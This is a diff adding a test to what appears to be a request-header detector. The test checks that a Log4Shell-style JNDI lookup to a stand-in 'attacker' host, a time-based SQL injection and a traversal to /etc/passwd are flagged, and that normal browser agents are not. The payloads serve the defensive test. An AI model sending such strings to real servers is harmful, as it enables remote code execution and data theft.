@@ -76,3 +76,15 @@ def test_scanner_agents_and_paths():
     assert not patterns.scanner_agent("curl/8.5.0")
     for path in ("/wp-login.php", "/.git/HEAD", "/.env", "/phpmyadmin/", "/actuator/health", "/backup.sql"):
         assert patterns.scanner_path(path), path
+
+
+def test_headers_are_read_for_payloads_but_browsers_raise_nothing():
+    assert patterns.hostile_header("${jndi:ldap://attacker/a}") == "injection"
+    assert patterns.hostile_header("Mozilla/5.0' AND SLEEP(5)-- ") == "injection"
+    assert patterns.hostile_header("https://x.example/?p=../../../../etc/passwd") == "traversal"
+    for agent in (
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
+        "https://vouch.example/requests/?q=O%27Brien&status=open",
+    ):
+        assert patterns.hostile_header(agent) is None
